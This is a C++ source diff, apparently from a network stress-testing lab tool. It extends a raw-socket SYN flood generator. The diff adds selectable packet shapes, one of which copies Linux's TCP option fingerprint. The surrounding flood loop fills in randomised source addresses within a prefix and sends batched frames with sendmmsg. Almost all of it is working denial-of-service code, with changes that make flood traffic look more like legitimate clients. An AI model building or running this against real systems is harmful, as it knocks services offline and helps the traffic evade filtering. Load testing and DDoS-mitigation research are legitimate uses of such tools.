@@ -17,9 +17,6 @@
 namespace sg::lab {
 namespace {
 
-constexpr size_t kSyn4Len = 20 + 24;
-constexpr size_t kSyn6Len = 40 + 24;
-
 struct IpPrefix {
   int family = AF_INET;
   std::array<uint8_t, 16> bytes{};
@@ -70,21 +67,36 @@ uint16_t fold(uint32_t sum) {
   return static_cast<uint16_t>(~sum & 0xffff);
 }
 
-void writeTcpSyn(uint8_t* t, uint16_t sport, uint16_t dport, uint32_t seq) {
-  std::memset(t, 0, 24);
+// The TCP header of a SYN of `shape` at t; returns its length.
+size_t writeTcpSyn(uint8_t* t, uint16_t sport, uint16_t dport, uint32_t seq, SynShape shape) {
+  static constexpr uint8_t kMssOpt[] = {2, 4, 0x05, 0xb4};  // MSS 1460
+  // Linux's SYN options: MSS, SACK-permitted, timestamps (val filled in), NOP, window scale 7.
+  static constexpr uint8_t kLinuxOpts[] = {2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0,
+                                           0, 0, 0,    0,    0, 0, 1, 3,  3, 7};
+  const uint8_t* opts = shape == SynShape::kLinux ? kLinuxOpts
+                        : shape == SynShape::kMss ? kMssOpt
+                                                  : nullptr;
+  const size_t opt_len = shape == SynShape::kLinux ? sizeof(kLinuxOpts)
+                         : shape == SynShape::kMss ? sizeof(kMssOpt)
+                                                   : 0;
+  const size_t len = 20 + opt_len;
+  std::memset(t, 0, 20);
   t[0] = static_cast<uint8_t>(sport >> 8);
   t[1] = static_cast<uint8_t>(sport);
   t[2] = static_cast<uint8_t>(dport >> 8);
   t[3] = static_cast<uint8_t>(dport);
   for (int i = 0; i < 4; ++i) t[4 + i] = static_cast<uint8_t>(seq >> (24 - 8 * i));
-  t[12] = 6 << 4;  // data offset: 24 bytes
-  t[13] = 0x02;    // SYN
-  t[14] = 0xfa;    // window 64240
-  t[15] = 0xf0;
-  t[20] = 2;  // MSS option, length 4, 1460
-  t[21] = 4;
-  t[22] = 0x05;
-  t[23] = 0xb4;
+  t[12] = static_cast<uint8_t>((len / 4) << 4);  // data offset
+  t[13] = 0x02;                                  // SYN
+  if (shape != SynShape::kBare) {
+    t[14] = 0xfa;  // window 64240
+    t[15] = 0xf0;
+  }
+  if (opt_len > 0) std::memcpy(t + 20, opts, opt_len);
+  if (shape == SynShape::kLinux) {
+    for (int i = 0; i < 4; ++i) t[28 + i] = static_cast<uint8_t>(seq >> (8 * i));  // TSval
+  }
+  return len;
 }
 
 struct Rng {
@@ -115,11 +127,12 @@ void randomInPrefix(const IpPrefix& p, Rng& rng, uint8_t* out) {
 }  // namespace
 
 size_t buildSyn4(uint8_t* buf, const uint8_t src[4], const uint8_t dst[4], uint16_t sport,
-                 uint16_t dport, uint32_t seq) {
+                 uint16_t dport, uint32_t seq, SynShape shape) {
+  const size_t len = 20 + writeTcpSyn(buf + 20, sport, dport, seq, shape);
   std::memset(buf, 0, 20);
   buf[0] = 0x45;
-  buf[2] = 0;
-  buf[3] = kSyn4Len;
+  buf[2] = static_cast<uint8_t>(len >> 8);
+  buf[3] = static_cast<uint8_t>(len);
   buf[4] = static_cast<uint8_t>(seq >> 8);  // IP id: anything non-constant
   buf[5] = static_cast<uint8_t>(seq);
   buf[6] = 0x40;  // DF
@@ -130,27 +143,33 @@ size_t buildSyn4(uint8_t* buf, const uint8_t src[4], const uint8_t dst[4], uint1
   uint16_t ip_sum = fold(sumBytes(buf, 20, 0));
   buf[10] = static_cast<uint8_t>(ip_sum >> 8);
   buf[11] = static_cast<uint8_t>(ip_sum);
-  writeTcpSyn(buf + 20, sport, dport, seq);
-  uint16_t sum = tcpChecksum4(buf, kSyn4Len);
+  uint16_t sum = tcpChecksum4(buf, len);
   buf[20 + 16] = static_cast<uint8_t>(sum >> 8);
   buf[20 + 17] = static_cast<uint8_t>(sum);
-  return kSyn4Len;
+  return len;
 }
 
 size_t buildSyn6(uint8_t* buf, const uint8_t src[16], const uint8_t dst[16], uint16_t sport,
-                 uint16_t dport, uint32_t seq) {
+                 uint16_t dport, uint32_t seq, SynShape shape) {
+  const size_t tcp_len = writeTcpSyn(buf + 40, sport, dport, seq, shape);
   std::memset(buf, 0, 40);
   buf[0] = 0x60;
-  buf[5] = 24;  // payload length
+  buf[5] = static_cast<uint8_t>(tcp_len);  // payload length
   buf[6] = IPPROTO_TCP;
   buf[7] = 64;  // hop limit
   std::memcpy(buf + 8, src, 16);
   std::memcpy(buf + 24, dst, 16);
-  writeTcpSyn(buf + 40, sport, dport, seq);
-  uint16_t sum = tcpChecksum6(buf, kSyn6Len);
+  uint16_t sum = tcpChecksum6(buf, 40 + tcp_len);
   buf[40 + 16] = static_cast<uint8_t>(sum >> 8);
   buf[40 + 17] = static_cast<uint8_t>(sum);
-  return kSyn6Len;
+  return 40 + tcp_len;
+}
+
+Result<SynShape> parseSynShape(const std::string& text) {
+  if (text == "mss") return SynShape::kMss;
+  if (text == "bare") return SynShape::kBare;
+  if (text == "linux") return SynShape::kLinux;
+  return makeError(Errc::kInvalidArgument, "SYN shape must be mss, bare or linux: '" + text + "'");
 }
 
 uint16_t tcpChecksum4(const uint8_t* ip, size_t len) {
@@ -241,7 +260,7 @@ Result<FloodStats> runFlood(const FloodOptions& o, const std::atomic<bool>* stop
     to_len = sizeof(sockaddr_in);
   }
   const unsigned batch = o.batch;
-  std::vector<std::array<uint8_t, kSyn6Len>> frames(batch);
+  std::vector<std::array<uint8_t, kMaxSynFrame>> frames(batch);
   std::vector<iovec> iov(batch);
   std::vector<mmsghdr> msgs(batch);
   Rng rng{0x9e3779b97f4a7c15ull ^ static_cast<uint64_t>(getpid()) ^
@@ -278,9 +297,10 @@ Result<FloodStats> runFlood(const FloodOptions& o, const std::atomic<bool>* stop
       uint64_t r = rng.next();
       uint16_t sport = o.src_port != 0 ? o.src_port : static_cast<uint16_t>(1024 + r % 64000);
       uint32_t seq = static_cast<uint32_t>(r >> 32);
-      iov[i].iov_len =
-          v6 ? buildSyn6(frames[i].data(), s.data(), dst->bytes.data(), sport, o.dst_port, seq)
-             : buildSyn4(frames[i].data(), s.data(), dst->bytes.data(), sport, o.dst_port, seq);
+      iov[i].iov_len = v6 ? buildSyn6(frames[i].data(), s.data(), dst->bytes.data(), sport,
+                                      o.dst_port, seq, o.shape)
+                          : buildSyn4(frames[i].data(), s.data(), dst->bytes.data(), sport,
+                                      o.dst_port, seq, o.shape);
     }
     int done = sendmmsg(fd, msgs.data(), n, 0);
     if (done < 0) {
@@ -293,6 +313,7 @@ Result<FloodStats> runFlood(const FloodOptions& o, const std::atomic<bool>* stop
       done = 0;
     }
     stats.sent += static_cast<uint64_t>(done);
+    if (o.progress != nullptr) o.progress->store(stats.sent, std::memory_order_relaxed);
     // A refused packet is skipped (counted), not retried: the bound is on attempts.
     if (static_cast<unsigned>(done) < n) stats.errors += n - static_cast<unsigned>(done);
     attempted += n;
